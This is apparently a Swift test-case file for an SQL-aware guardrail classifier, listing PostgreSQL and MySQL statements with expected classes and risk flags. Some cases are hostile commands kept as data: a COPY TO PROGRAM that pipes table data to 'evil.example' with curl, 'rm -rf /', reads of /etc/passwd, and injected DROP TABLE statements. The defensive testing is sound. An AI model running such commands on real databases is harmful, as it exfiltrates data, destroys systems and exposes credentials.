@testable import ProtocolParsers

/// The guardrail suite: at least 150 statements with their expected class, verb, tables
/// and flags (issue 4, "SQL-aware guardrails").
let sqlClassifierCases: [SQLClassifierCase] = readCases + writeCases + ddlCases + dclCases + sessionCases
    + trickyCases + multiStatementCases + mysqlCases

// MARK: - Reads

let readCases: [SQLClassifierCase] = [
    pg("SELECT 1", .read, "SELECT"),
    pg("select * from orders", .read, "SELECT", ["orders"]),
    pg("SELECT * FROM public.orders o WHERE o.id = $1", .read, "SELECT", ["public.orders"], where: true),
    pg(#"SELECT * FROM "Public"."Orders""#, .read, "SELECT", ["Public.Orders"]),
    pg(#"SELECT * FROM "Weird Name" w"#, .read, "SELECT", ["Weird Name"]),
    pg(#"SELECT * FROM "a""b""#, .read, "SELECT", [#"a"b"#]),
    pg("SELECT a.x, b.y FROM a, b, c WHERE a.id = b.id", .read, "SELECT", ["a", "b", "c"], where: true),
    pg("SELECT * FROM a JOIN b ON a.id = b.a_id LEFT OUTER JOIN c USING (id)", .read, "SELECT", ["a", "b", "c"]),
    pg("SELECT * FROM a NATURAL JOIN b CROSS JOIN c FULL JOIN d ON true", .read, "SELECT", ["a", "b", "c", "d"]),
    pg("SELECT * FROM a INNER JOIN b ON a.x = b.x RIGHT JOIN a ON true", .read, "SELECT", ["a", "b"]),
    pg("SELECT * FROM (SELECT * FROM inner_t) AS sub", .read, "SELECT", ["inner_t"]),
    pg("SELECT * FROM (a JOIN b ON a.id = b.id)", .read, "SELECT", ["a", "b"]),
    pg("SELECT * FROM t WHERE id IN (SELECT id FROM secret)", .read, "SELECT", ["t", "secret"], where: true),
    pg("SELECT EXISTS (SELECT 1 FROM s.t)", .read, "SELECT", ["s.t"]),
    pg("SELECT extract(year FROM created_at) FROM events", .read, "SELECT", ["events"]),
    pg("SELECT substring(name FROM 2 FOR 3), trim(both ' ' from x) FROM people", .read, "SELECT", ["people"]),
    pg("SELECT a IS DISTINCT FROM b FROM t", .read, "SELECT", ["t"]),
    pg("SELECT * FROM generate_series(1, 10) g", .read, "SELECT"),
    pg("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t = t.id) x", .read, "SELECT", ["t", "u"]),
    pg("SELECT * FROM ONLY parent", .read, "SELECT", ["parent"]),
    pg("SELECT x FROM a UNION ALL SELECT y FROM b ORDER BY 1", .read, "SELECT", ["a", "b"]),
    pg("(SELECT 1 FROM a) UNION (SELECT 2 FROM b)", .read, "SELECT", ["a", "b"]),
    pg("SELECT a, b FROM t GROUP BY a, b HAVING count(*) > 1 ORDER BY a, b", .read, "SELECT", ["t"]),
    pg("VALUES (1, 'a'), (2, 'b')", .read, "VALUES"),
    pg("TABLE orders", .read, "TABLE", ["orders"]),
    pg("SHOW search_path", .read, "SHOW"),
    pg("SELECT * FROM t FOR UPDATE", .read, "SELECT", ["t"], [.selectForUpdate]),
    pg("select * from t where id = 1 for no key update skip locked", .read, "SELECT", ["t"], [.selectForUpdate]),
    pg("SELECT * FROM jobs FOR SHARE OF jobs NOWAIT", .read, "SELECT", ["jobs"], [.selectForUpdate]),
    pg("SELECT * FROM q FOR KEY SHARE", .read, "SELECT", ["q"], [.selectForUpdate]),
    pg("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", .read, "SELECT", ["t"], [.selectForUpdate]),
    pg("SELECT 'FOR UPDATE' FROM t", .read, "SELECT", ["t"]),
    pg("FETCH 10 FROM my_cursor", .read, "FETCH"),
    pg("SELECT count(*) FILTER (WHERE x > 1) FROM t", .read, "SELECT", ["t"], where: false),
    pg("SELECT * FROM t1 t CROSS JOIN LATERAL unnest(t.arr) WITH ORDINALITY AS u(v, n)", .read, "SELECT", ["t1"]),
    pg("SELECT * FROM (VALUES (1), (2)) AS v(x)", .read, "SELECT"),
    pg("SELECT * FROM ROWS FROM (generate_series(1, 2), generate_series(3, 4)) r", .read, "SELECT"),
]

// MARK: - Writes

let writeCases: [SQLClassifierCase] = [
    pg("INSERT INTO orders (id, total) VALUES (1, 2.5)", .write, "INSERT", ["orders"]),
    pg("insert into audit.log select * from staging.log", .write, "INSERT", ["audit.log", "staging.log"]),
    pg(
        "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1, m = 2", .write, "INSERT", ["t"]
    ),
    pg("INSERT INTO t SELECT a, b FROM s ON CONFLICT DO NOTHING RETURNING id", .write, "INSERT", ["t", "s"]),
    pg("UPDATE orders SET total = 0 WHERE id = 7", .write, "UPDATE", ["orders"], where: true),
    pg("UPDATE orders SET total = 0", .write, "UPDATE", ["orders"], [.updateWithoutWhere], where: false),
    pg("update ONLY accounts set balance = balance * 1.01", .write, "UPDATE", ["accounts"], [.updateWithoutWhere]),
    pg(
        "UPDATE t SET x = s.x FROM s WHERE s.id = t.id", .write, "UPDATE", ["t", "s"], where: true
    ),
    pg(
        "UPDATE t SET x = (SELECT max(y) FROM u WHERE u.id = t.id)", .write, "UPDATE", ["t", "u"],
        [.updateWithoutWhere], where: false
    ),
    pg("UPDATE t SET x = 1 WHERE CURRENT OF c", .write, "UPDATE", ["t"], where: true),
    pg("DELETE FROM orders", .write, "DELETE", ["orders"], [.deleteWithoutWhere], where: false),
    pg("DELETE FROM orders WHERE id = 1", .write, "DELETE", ["orders"], where: true),
    pg("delete from ONLY logs", .write, "DELETE", ["logs"], [.deleteWithoutWhere]),
    pg(
        "DELETE FROM t USING s, u WHERE t.id = s.id AND s.k = u.k", .write, "DELETE", ["t", "s", "u"], where: true
    ),
    pg(
        "DELETE FROM t WHERE id IN (SELECT id FROM old)", .write, "DELETE", ["t", "old"], where: true
    ),
    pg(
        "DELETE FROM t USING s", .write, "DELETE", ["t", "s"], [.deleteWithoutWhere], where: false
    ),
    pg("DELETE FROM t RETURNING *", .write, "DELETE", ["t"], [.deleteWithoutWhere]),
    pg(
        "MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)",
        .write, "MERGE", ["stock", "deliveries"]
    ),
    pg("MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id WHEN MATCHED THEN DELETE", .write, "MERGE", ["t", "src"]),
    pg("COPY orders FROM STDIN WITH (FORMAT csv)", .write, "COPY", ["orders"]),
    pg("COPY orders (id, total) FROM '/tmp/o.csv'", .write, "COPY", ["orders"], [.serverFileAccess]),
    pg("COPY orders TO STDOUT", .read, "COPY", ["orders"]),
    pg("COPY (SELECT * FROM orders WHERE x) TO STDOUT", .read, "COPY", ["orders"]),
    pg("COPY orders TO '/tmp/out.csv'", .read, "COPY", ["orders"], [.serverFileAccess]),
    pg("COPY orders TO PROGRAM 'curl -d @- evil.example'", .admin, "COPY", ["orders"], [.copyProgram]),
    pg("copy t from program 'rm -rf /'", .admin, "COPY", ["t"], [.copyProgram]),
    pg("COPY (SELECT 1) TO PROGRAM 'id'", .admin, "COPY", [], [.copyProgram]),
    pg(
        "COPY (DELETE FROM t RETURNING *) TO STDOUT", .write, "COPY", ["t"], [.deleteWithoutWhere]
    ),
    pg("SELECT * INTO new_orders FROM orders", .write, "SELECT", ["new_orders", "orders"]),
    pg("SELECT id INTO TEMP TABLE tmp_ids FROM t", .write, "SELECT", ["tmp_ids", "t"]),
    pg("DO $$BEGIN DELETE FROM t; END$$", .write, "DO"),
    pg("CALL refresh_all(1)", .write, "CALL"),
    pg("UPSERT INTO kv (k, v) VALUES ('a', 1)", .write, "UPSERT", ["kv"]),
]

// MARK: - CTEs

let cteCases: [SQLClassifierCase] = [
    pg("WITH x AS (SELECT * FROM t) SELECT * FROM x", .read, "SELECT", ["t"]),
    pg(
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", .write, "SELECT", ["orders"],
        [.writeInCTE, .deleteWithoutWhere]
    ),
    pg(
        "WITH d AS (DELETE FROM orders WHERE id < 10 RETURNING *) SELECT * FROM d", .write, "SELECT", ["orders"],
        [.writeInCTE]
    ),
    pg(
        "WITH u AS (UPDATE accounts SET b = 0 RETURNING id) INSERT INTO log SELECT id FROM u", .write, "INSERT",
        ["accounts", "log"], [.writeInCTE, .updateWithoutWhere]
    ),
    pg(
        "WITH RECURSIVE tree(id, parent) AS (SELECT id, parent FROM nodes WHERE parent IS NULL UNION ALL SELECT n.id, n.parent FROM nodes n JOIN tree ON n.parent = tree.id) SELECT * FROM tree",
        .read, "SELECT", ["nodes"]
    ),
    pg(
        "WITH a AS MATERIALIZED (SELECT 1), b AS NOT MATERIALIZED (SELECT * FROM real_b) SELECT * FROM a, b, c",
        .read, "SELECT", ["real_b", "c"]
    ),
    pg(
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i", .write, "SELECT", ["t"], [.writeInCTE]
    ),
    pg(
        "with x as (select * from src) delete from dst using x where dst.id = x.id", .write, "DELETE",
        ["src", "dst"], where: true
    ),
    pg(
        "WITH x AS (SELECT 1) UPDATE t SET a = 1", .write, "UPDATE", ["t"], [.updateWithoutWhere], where: false
    ),
    pg(
        "SELECT * FROM (WITH inner_cte AS (SELECT * FROM base) SELECT * FROM inner_cte) s", .read, "SELECT", ["base"]
    ),
    pg(
        "WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m",
        .write, "SELECT", ["t", "s"], [.writeInCTE]
    ),
]

// MARK: - DDL

let ddlCases: [SQLClassifierCase] = [
    pg("CREATE TABLE t (id int PRIMARY KEY, name text)", .ddl, "CREATE TABLE", ["t"]),
    pg("create temporary table if not exists tmp (x int)", .ddl, "CREATE TABLE", ["tmp"]),
    pg("CREATE UNLOGGED TABLE s.fast (x int)", .ddl, "CREATE TABLE", ["s.fast"]),
    pg("CREATE TABLE copy_t AS SELECT * FROM t", .ddl, "CREATE TABLE", ["copy_t", "t"]),
    pg("CREATE OR REPLACE VIEW v AS SELECT a FROM t JOIN u ON true", .ddl, "CREATE VIEW", ["v", "t", "u"]),
    pg("CREATE MATERIALIZED VIEW mv AS SELECT * FROM big", .ddl, "CREATE MATERIALIZED VIEW", ["mv", "big"]),
    pg("CREATE UNIQUE INDEX CONCURRENTLY idx ON public.t (a)", .ddl, "CREATE INDEX", ["public.t"]),
    pg("CREATE INDEX ON ONLY parent (a)", .ddl, "CREATE INDEX", ["parent"]),
    pg(
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1; DELETE FROM x; $$",
        .ddl, "CREATE FUNCTION"
    ),
    pg(
        "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE BEGIN ATOMIC SELECT a + b; END",
        .ddl, "CREATE FUNCTION"
    ),
    pg(
        "CREATE TRIGGER trg BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION audit()", .ddl,
        "CREATE TRIGGER", ["accounts"]
    ),
    pg("CREATE SCHEMA IF NOT EXISTS reporting", .ddl, "CREATE SCHEMA"),
    pg("CREATE EXTENSION dblink", .ddl, "CREATE EXTENSION"),
    pg("CREATE FOREIGN TABLE ft (x int) SERVER s", .ddl, "CREATE FOREIGN TABLE", ["ft"]),
    pg("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob')", .ddl, "CREATE USER MAPPING"),
    pg("CREATE TEXT SEARCH CONFIGURATION my_cfg (COPY = english)", .ddl, "CREATE TEXT SEARCH CONFIGURATION"),
    pg("ALTER TABLE orders ADD COLUMN note text", .ddl, "ALTER TABLE", ["orders"]),
    pg("ALTER TABLE IF EXISTS ONLY public.orders RENAME TO old_orders", .ddl, "ALTER TABLE", ["public.orders"]),
    pg("ALTER TABLE orders DROP COLUMN note", .ddl, "ALTER TABLE", ["orders"], [.drop]),
    pg("ALTER TABLE orders DROP note CASCADE", .ddl, "ALTER TABLE", ["orders"], [.drop]),
    pg("ALTER TABLE orders DROP CONSTRAINT orders_pk", .ddl, "ALTER TABLE", ["orders"]),
    pg("ALTER TABLE orders ALTER COLUMN x DROP DEFAULT", .ddl, "ALTER TABLE", ["orders"]),
    pg("ALTER TABLE orders OWNER TO mallory", .ddl, "ALTER TABLE", ["orders"], [.roleOrGrantChange]),
    pg("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", .ddl, "ALTER TABLE", ["orders"], [.roleOrGrantChange]),
    pg("ALTER VIEW v RENAME TO w", .ddl, "ALTER VIEW", ["v"]),
    pg("ALTER SEQUENCE s RESTART WITH 1", .ddl, "ALTER SEQUENCE"),
    pg("DROP TABLE orders", .ddl, "DROP TABLE", ["orders"], [.drop]),
    pg("drop table if exists a, s.b, \"C\" cascade", .ddl, "DROP TABLE", ["a", "s.b", "C"], [.drop]),
    pg("DROP VIEW IF EXISTS v", .ddl, "DROP VIEW", ["v"], [.drop]),
    pg("DROP MATERIALIZED VIEW mv", .ddl, "DROP MATERIALIZED VIEW", ["mv"], [.drop]),
    pg("DROP SCHEMA app CASCADE", .ddl, "DROP SCHEMA", [], [.drop]),
    pg("DROP DATABASE prod", .ddl, "DROP DATABASE", [], [.drop]),
    pg("DROP INDEX CONCURRENTLY IF EXISTS idx", .ddl, "DROP INDEX", [], [.drop]),
    pg("DROP FUNCTION IF EXISTS f(int)", .ddl, "DROP FUNCTION", [], [.drop]),
    pg("TRUNCATE orders", .ddl, "TRUNCATE", ["orders"], [.truncate]),
    pg("truncate table only a, b, ONLY c restart identity cascade", .ddl, "TRUNCATE", ["a", "b", "c"], [.truncate]),
    pg("COMMENT ON TABLE orders IS 'x; DROP TABLE y'", .ddl, "COMMENT", ["orders"]),
    pg("SECURITY LABEL FOR selinux ON TABLE t IS 'x'", .ddl, "SECURITY LABEL"),
    pg("IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local", .ddl, "IMPORT FOREIGN SCHEMA"),
]

// MARK: - DCL

let dclCases: [SQLClassifierCase] = [
    pg("GRANT SELECT ON orders TO analyst", .dcl, "GRANT", ["orders"], [.roleOrGrantChange]),
    pg("GRANT SELECT, UPDATE ON TABLE a, s.b TO analyst", .dcl, "GRANT", ["a", "s.b"], [.roleOrGrantChange]),
    pg("GRANT ALL ON ALL TABLES IN SCHEMA public TO app", .dcl, "GRANT", [], [.roleOrGrantChange]),
    pg("GRANT admin TO mallory WITH ADMIN OPTION", .dcl, "GRANT", [], [.roleOrGrantChange]),
    pg("REVOKE INSERT ON orders FROM PUBLIC", .dcl, "REVOKE", ["orders"], [.roleOrGrantChange]),
    pg("revoke admin from bob", .dcl, "REVOKE", [], [.roleOrGrantChange]),
    pg("CREATE ROLE mallory LOGIN SUPERUSER PASSWORD 'x'", .dcl, "CREATE ROLE", [], [.roleOrGrantChange]),
    pg("CREATE USER bob WITH PASSWORD 'secret'", .dcl, "CREATE USER", [], [.roleOrGrantChange]),
    pg("ALTER ROLE bob SUPERUSER", .dcl, "ALTER ROLE", [], [.roleOrGrantChange]),
    pg("ALTER USER bob WITH PASSWORD 'x'", .dcl, "ALTER USER", [], [.roleOrGrantChange]),
    pg("DROP ROLE IF EXISTS bob", .dcl, "DROP ROLE", [], [.roleOrGrantChange, .drop]),
    pg("DROP USER bob", .dcl, "DROP USER", [], [.roleOrGrantChange, .drop]),
    pg(
        "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r", .dcl, "ALTER DEFAULT PRIVILEGES", [],
        [.roleOrGrantChange]
    ),
    pg(
        "ALTER DEFAULT PRIVILEGES REVOKE SELECT ON TABLES FROM r", .dcl, "ALTER DEFAULT PRIVILEGES", [],
        [.roleOrGrantChange]
    ),
    pg("CREATE POLICY p ON orders USING (owner = current_user)", .dcl, "CREATE POLICY", ["orders"], [.roleOrGrantChange]),
    pg("REASSIGN OWNED BY bob TO alice", .dcl, "REASSIGN OWNED", [], [.roleOrGrantChange]),
    pg("DROP OWNED BY bob", .dcl, "DROP OWNED", [], [.roleOrGrantChange, .drop]),
]

// MARK: - Transactions, admin, utility

let sessionCases: [SQLClassifierCase] = [
    pg("BEGIN", .transaction, "BEGIN"),
    pg("begin isolation level serializable", .transaction, "BEGIN"),
    pg("START TRANSACTION READ ONLY", .transaction, "START TRANSACTION"),
    pg("COMMIT", .transaction, "COMMIT"),
    pg("END", .transaction, "END"),
    pg("ROLLBACK TO SAVEPOINT s1", .transaction, "ROLLBACK"),
    pg("SAVEPOINT s1", .transaction, "SAVEPOINT"),
    pg("RELEASE SAVEPOINT s1", .transaction, "RELEASE"),
    pg("PREPARE TRANSACTION 'tx1'", .transaction, "PREPARE TRANSACTION"),
    pg("COMMIT PREPARED 'tx1'", .transaction, "COMMIT PREPARED"),
    pg("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", .transaction, "SET TRANSACTION"),
    pg("SET CONSTRAINTS ALL DEFERRED", .transaction, "SET CONSTRAINTS"),
    pg("ALTER SYSTEM SET wal_level = 'logical'", .admin, "ALTER SYSTEM", [], [.alterSystem]),
    pg("alter   system\n reset all", .admin, "ALTER SYSTEM", [], [.alterSystem]),
    pg("VACUUM (VERBOSE, ANALYZE) orders", .admin, "VACUUM"),
    pg("ANALYZE orders", .admin, "ANALYZE"),
    pg("CHECKPOINT", .admin, "CHECKPOINT"),
    pg("REINDEX TABLE orders", .admin, "REINDEX"),
    pg("CLUSTER orders USING orders_pkey", .admin, "CLUSTER"),
    pg("LOAD 'auto_explain'", .admin, "LOAD"),
    pg("LOCK TABLE orders, items IN ACCESS EXCLUSIVE MODE", .admin, "LOCK", ["orders", "items"]),
    pg("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", .admin, "REFRESH MATERIALIZED VIEW", ["mv"]),
    pg("SET search_path TO app, public", .utility, "SET"),
    pg("SET LOCAL statement_timeout = '5s'", .utility, "SET"),
    pg("SET ROLE admin", .dcl, "SET ROLE", [], [.roleOrGrantChange]),
    pg("SET SESSION AUTHORIZATION postgres", .dcl, "SET SESSION AUTHORIZATION", [], [.roleOrGrantChange]),
    pg("RESET ROLE", .dcl, "RESET ROLE", [], [.roleOrGrantChange]),
    pg("RESET ALL", .utility, "RESET"),
    pg("DISCARD ALL", .utility, "DISCARD"),
    pg("LISTEN jobs", .utility, "LISTEN"),
    pg("NOTIFY jobs, 'payload'", .utility, "NOTIFY"),
    pg("UNLISTEN *", .utility, "UNLISTEN"),
    pg("EXECUTE my_plan(1, 2)", .utility, "EXECUTE"),
    pg("DEALLOCATE ALL", .utility, "DEALLOCATE"),
    pg("CLOSE my_cursor", .utility, "CLOSE"),
    pg("PREPARE q(int) AS SELECT * FROM t WHERE id = $1", .read, "PREPARE", ["t"], where: true),
    pg("PREPARE d AS DELETE FROM t", .write, "PREPARE", ["t"], [.deleteWithoutWhere]),
    pg("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM big", .read, "DECLARE", ["big"]),
    pg("EXPLAIN SELECT * FROM t", .read, "EXPLAIN", ["t"]),
    pg("EXPLAIN DELETE FROM t", .read, "EXPLAIN", ["t"]),
    pg("EXPLAIN ANALYZE DELETE FROM t", .write, "EXPLAIN", ["t"], [.deleteWithoutWhere]),
    pg("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b", .write, "EXPLAIN", ["t"]),
    pg("EXPLAIN (ANALYZE false) DELETE FROM t", .read, "EXPLAIN", ["t"]),
    pg("EXPLAIN ANALYZE SELECT * FROM t", .read, "EXPLAIN", ["t"]),
    pg("EXPLAIN SELECT pg_terminate_backend(1)", .read, "EXPLAIN"),
]

// MARK: - Side-effect functions, quoting, comments

let trickyCases: [SQLClassifierCase] = cteCases + [
    pg("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", .read, "SELECT", ["pg_stat_activity"], [.sideEffectFunction]),
    pg("select PG_CANCEL_BACKEND(42)", .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT pg_catalog.set_config('search_path', 'evil', false)", .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT pg_reload_conf()", .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT lo_import('/etc/passwd')", .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT lo_export(1234, '/tmp/x')", .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT dblink_exec('dbname=prod', 'DROP TABLE x')", .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT pg_read_file('/etc/passwd')", .read, "SELECT", [], [.sideEffectFunction]),
    pg(#"SELECT "pg_terminate_backend"(1)"#, .read, "SELECT", [], [.sideEffectFunction]),
    pg("SELECT 'pg_terminate_backend(1)'", .read, "SELECT"),
    pg("SELECT pg_terminate_backend -- (1)\n FROM t", .read, "SELECT", ["t"]),
    pg("UPDATE t SET a = set_config('x', 'y', true)", .write, "UPDATE", ["t"], [.updateWithoutWhere, .sideEffectFunction]),
    pg("SELECT ';DROP TABLE x;--' FROM t", .read, "SELECT", ["t"]),
    pg("SELECT E'\\';DROP TABLE x;--' FROM t", .read, "SELECT", ["t"]),
    pg("SELECT 'it''s; DROP TABLE x' FROM t", .read, "SELECT", ["t"]),
    pg("SELECT $$;DROP TABLE x;$$ FROM t", .read, "SELECT", ["t"]),
    pg("SELECT $fn$ $$ ; DROP TABLE x; $$ $fn$ FROM t", .read, "SELECT", ["t"]),
    pg(#"SELECT 1 AS ";DROP TABLE x;" FROM t"#, .read, "SELECT", ["t"]),
    pg("/* DROP TABLE x; */ SELECT * FROM t", .read, "SELECT", ["t"]),
    pg("/* outer /* inner; DROP TABLE x */ still comment; */ SELECT 1", .read, "SELECT"),
    pg("-- DELETE FROM t;\nSELECT 1", .read, "SELECT"),
    pg("SELECT 1 -- ; DROP TABLE x", .read, "SELECT"),
    pg("  \n\t/*c*/ ( ( SELECT * FROM t ) )", .read, "SELECT", ["t"]),
    pg("DeLeTe\n\tFROM\n\n  Orders", .write, "DELETE", ["orders"], [.deleteWithoutWhere]),
    pg("DELETE/**/FROM/**/orders", .write, "DELETE", ["orders"], [.deleteWithoutWhere]),
    pg("DELETE FROM orders -- WHERE id = 1", .write, "DELETE", ["orders"], [.deleteWithoutWhere], where: false),
    pg("DELETE FROM orders /* WHERE id = 1 */", .write, "DELETE", ["orders"], [.deleteWithoutWhere], where: false),
    pg("DELETE FROM orders WHERE note = 'where'", .write, "DELETE", ["orders"], where: true),
    pg(#"DELETE FROM "where""#, .write, "DELETE", ["where"], [.deleteWithoutWhere]),
    pg("UPDATE t SET note = ' WHERE id = 1'", .write, "UPDATE", ["t"], [.updateWithoutWhere]),
    pg("SELECT * FROM t WHERE x = U&'\\0041'", .read, "SELECT", ["t"]),
    pg(#"SELECT * FROM U&"d\0061t\+000061""#, .read, "SELECT", [#"d\0061t\+000061"#]),
    pg("SELECT x::text, y FROM t WHERE z @> '{1}'::int[]", .read, "SELECT", ["t"]),
    pg("", .unknown, ""),
    pg("-- only a comment", .unknown, ""),
    pg("FROBNICATE everything", .unknown, "FROBNICATE"),
    pg("SELECT 'unterminated; DROP TABLE x", .read, "SELECT"),
    pg("SELECT 1 /* unterminated; DROP TABLE x", .read, "SELECT"),
    pg("SELECT $$ unterminated; DROP TABLE x", .read, "SELECT"),
    pg(#"SELECT * FROM "unterminated; DROP TABLE x"#, .read, "SELECT", ["unterminated; DROP TABLE x"]),
]

// MARK: - Multiple statements

let multiStatementCases: [SQLClassifierCase] = [
    pg("SELECT 1; DROP TABLE users", .ddl, "DROP TABLE", ["users"], [.multipleStatements, .drop]),
    pg("select * from t;delete from t", .write, "DELETE", ["t"], [.multipleStatements, .deleteWithoutWhere]),
    pg("SELECT 1;", .read, "SELECT"),
    pg("SELECT 1;;;", .read, "SELECT"),
    pg("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;", .write, "UPDATE", ["t"], [.multipleStatements]),
    pg("SELECT 1; GRANT ALL ON t TO x; DROP TABLE t", .dcl, "GRANT", ["t"], [.multipleStatements, .roleOrGrantChange, .drop]),
    pg(
        "SELECT E'a\\''; DROP TABLE t; --'", .ddl, "DROP TABLE", ["t"], [.multipleStatements, .drop]
    ),
    pg(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END; DROP TABLE x",
        .ddl, "CREATE FUNCTION", ["t", "x"], [.multipleStatements, .drop]
    ),
]

// MARK: - MySQL

let mysqlCases: [SQLClassifierCase] = [
    my("SELECT * FROM `orders`", .read, "SELECT", ["orders"]),
    my("SELECT * FROM `My DB`.`Weird``Name`", .read, "SELECT", ["My DB.Weird`Name"]),
    my("SELECT * FROM shop.orders o JOIN shop.items i ON o.id = i.order_id", .read, "SELECT", ["shop.orders", "shop.items"]),
    my("SELECT 1 FROM DUAL", .read, "SELECT"),
    my("# comment; DROP TABLE x\nSELECT 1", .read, "SELECT"),
    my("SELECT 1 -- comment; DROP TABLE x", .read, "SELECT"),
    my("SELECT \"a;DROP TABLE x\" FROM t", .read, "SELECT", ["t"]),
    my("SELECT 'it\\'s;DROP TABLE x' FROM t", .read, "SELECT", ["t"]),
    my("SELECT * FROM t WHERE id = ?", .read, "SELECT", ["t"], where: true),
    my("SELECT * FROM t LOCK IN SHARE MODE", .read, "SELECT", ["t"], [.selectForUpdate]),
    my("SELECT * FROM t FOR UPDATE", .read, "SELECT", ["t"], [.selectForUpdate]),
    my("SELECT * FROM t INTO OUTFILE '/tmp/x'", .admin, "SELECT", ["t"], [.serverFileAccess]),
    my("SELECT a INTO @v FROM t LIMIT 1", .read, "SELECT", ["t"]),
    my("SELECT load_file('/etc/passwd')", .read, "SELECT", [], [.sideEffectFunction]),
    my("INSERT IGNORE INTO t (a) VALUES (1)", .write, "INSERT", ["t"]),
    my("INSERT t VALUES (1)", .write, "INSERT", ["t"]),
    my(
        "INSERT INTO t (a, b) SELECT a, b FROM s ON DUPLICATE KEY UPDATE a = VALUES(a), b = 2", .write, "INSERT",
        ["t", "s"]
    ),
    my("REPLACE INTO t VALUES (1)", .write, "REPLACE", ["t"]),
    my("UPDATE t1, t2 SET t1.a = t2.a WHERE t1.id = t2.id", .write, "UPDATE", ["t1", "t2"], where: true),
    my("UPDATE t1 JOIN t2 ON t1.id = t2.id SET t1.a = 1", .write, "UPDATE", ["t1", "t2"], [.updateWithoutWhere]),
    my("UPDATE LOW_PRIORITY t SET a = 1 LIMIT 10", .write, "UPDATE", ["t"], [.updateWithoutWhere]),
    my("DELETE FROM t LIMIT 10", .write, "DELETE", ["t"], [.deleteWithoutWhere]),
    my("DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x", .write, "DELETE", ["t1", "t2"], where: true),
    my("LOAD DATA INFILE '/tmp/x.csv' INTO TABLE t", .write, "LOAD DATA", ["t"], [.serverFileAccess]),
    my("LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t", .write, "LOAD DATA", ["t"]),
    my("KILL QUERY 42", .admin, "KILL"),
    my("FLUSH PRIVILEGES", .admin, "FLUSH"),
    my("SET GLOBAL max_connections = 1", .admin, "SET GLOBAL"),
    my("SET @@global.read_only = 0", .admin, "SET GLOBAL"),
    my("SET NAMES utf8mb4", .utility, "SET"),
    my("SET PASSWORD FOR bob = 'x'", .dcl, "SET PASSWORD", [], [.roleOrGrantChange]),
    my("CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", .dcl, "CREATE USER", [], [.roleOrGrantChange]),
    my("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'", .dcl, "GRANT", [], [.roleOrGrantChange]),
    my("GRANT SELECT ON shop.orders TO 'bob'@'%'", .dcl, "GRANT", ["shop.orders"], [.roleOrGrantChange]),
    my("GRANT SELECT ON shop.* TO bob", .dcl, "GRANT", [], [.roleOrGrantChange]),
    my("RENAME TABLE a TO b, c TO d", .ddl, "RENAME TABLE", ["a", "b", "c", "d"]),
    my("DROP TEMPORARY TABLE IF EXISTS tmp", .ddl, "DROP TABLE", ["tmp"], [.drop]),
    my(
        "CREATE DEFINER=`root`@`localhost` PROCEDURE p() BEGIN SELECT 1; END", .ddl, "CREATE PROCEDURE",
        [], [.multipleStatements]
    ),
    my("USE shop", .utility, "USE"),
    my("SHOW TABLES", .read, "SHOW"),
    my("DESCRIBE orders", .read, "DESCRIBE", ["orders"]),
    my("LOCK TABLES t1 READ, t2 WRITE", .admin, "LOCK", ["t1", "t2"]),
    my("START TRANSACTION", .transaction, "START TRANSACTION"),
    my("PREPARE s FROM 'DELETE FROM t'", .write, "PREPARE", ["t"], [.deleteWithoutWhere]),
    my("SELECT 1 /*!50000 ; DROP TABLE x */", .ddl, "DROP TABLE", ["x"], [.multipleStatements, .drop]),
    my("/*!40101 DELETE FROM t */", .write, "DELETE", ["t"], [.deleteWithoutWhere]),
    my("SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t", .read, "SELECT", ["t"]),
    my("SELECT 1--1 FROM t", .read, "SELECT", ["t"]),
    my("SELECT $$ FROM t", .read, "SELECT", ["t"]),
    my("TRUNCATE TABLE logs", .ddl, "TRUNCATE", ["logs"], [.truncate]),
]
